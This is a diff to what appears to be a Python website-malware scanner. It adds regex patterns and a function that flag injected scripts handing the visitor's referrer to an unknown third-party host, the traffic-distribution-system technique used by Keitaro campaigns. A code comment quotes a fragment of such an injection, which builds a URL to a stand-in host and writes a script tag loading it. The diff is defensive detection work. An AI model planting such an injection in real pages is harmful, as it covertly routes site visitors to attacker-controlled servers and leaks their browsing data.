@@ -254,6 +254,39 @@ def _counts_without_script(ctx: PageContext, host: str, tag: re.Match[str]) -> b
                for r in ctx.resources)
 
 
+# Keitaro's integration as injections carry it, the referrer handed through names (the
+# snt2014 campaign's `var se_referrer = encodeURIComponent(document.referrer); var base =
+# "http://x.test/js/jquery.min.php"; var n_url = base + "?default_keyword=" + … +
+# "&se_referrer=" + se_referrer; … document.write('<script src="' + f_url + '">…')`): a
+# name given the referrer, joined as a query's value; a name given a site's address, a
+# query joined to it
+_REFERRER_NAMED = lazy_regex(
+    r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40})\s*=\s*(?:(?:encodeURIComponent|encodeURI|escape)"""
+    r"""\s*\(\s*)?document\s*\.\s*referrer\b""")
+_JOINED_AS_VALUE = lazy_regex(r"""=['"]\s*\+\s*([A-Za-z_$][\w$]{0,40})(?![\w$])""")
+_QUERY_JOINED = lazy_regex(r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40})\s*\+\s*['"][?&]""")
+_ADDRESS_NAMED = lazy_regex(
+    r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40})\s*=\s*['"]((?:https?:)?//[^'"\s<>]+)['"]""")
+
+
+def _referrer_handed(ctx: PageContext, code: str) -> str | None:
+    """The host `_referrer_keyed` names where the script hands the referrer and the
+    address through names (`_REFERRER_NAMED`): the referrer's name joined as a query
+    value, a query joined to a name given the address of another site no vendor runs, and
+    the query a TDS's own (`_TDS_PARAMS`: a counter's beacon built the same way names
+    none of them). Each pattern runs once over the script."""
+    if not _TDS_PARAMS.search(code):
+        return None
+    given = {m.group(1) for m in _REFERRER_NAMED.finditer(code)}
+    if not given or not given & {m.group(1) for m in _JOINED_AS_VALUE.finditer(code)}:
+        return None
+    queried = {m.group(1) for m in _QUERY_JOINED.finditer(code)}
+    for m in _ADDRESS_NAMED.finditer(code):
+        if m.group(1) in queried and (host := unknown_site(ctx, m.group(2))) is not None:
+            return host
+    return None
+
+
 def _referrer_keyed(ctx: PageContext, code: str) -> tuple[str, bool] | None:
     """The host of a script a script loads from another site no vendor the catalogue
     knows runs, with the visitor's referrer joined to its address, and whether it is an
@@ -276,6 +309,8 @@ def _referrer_keyed(ctx: PageContext, code: str) -> tuple[str, bool] | None:
         if host and not _counts_without_script(ctx, host, m):
             return host, False
         counter = counter or ((host, True) if host else None)
+    if counter is None and (handed := _referrer_handed(ctx, code)) is not None:
+        return handed, False
     return counter
 
 
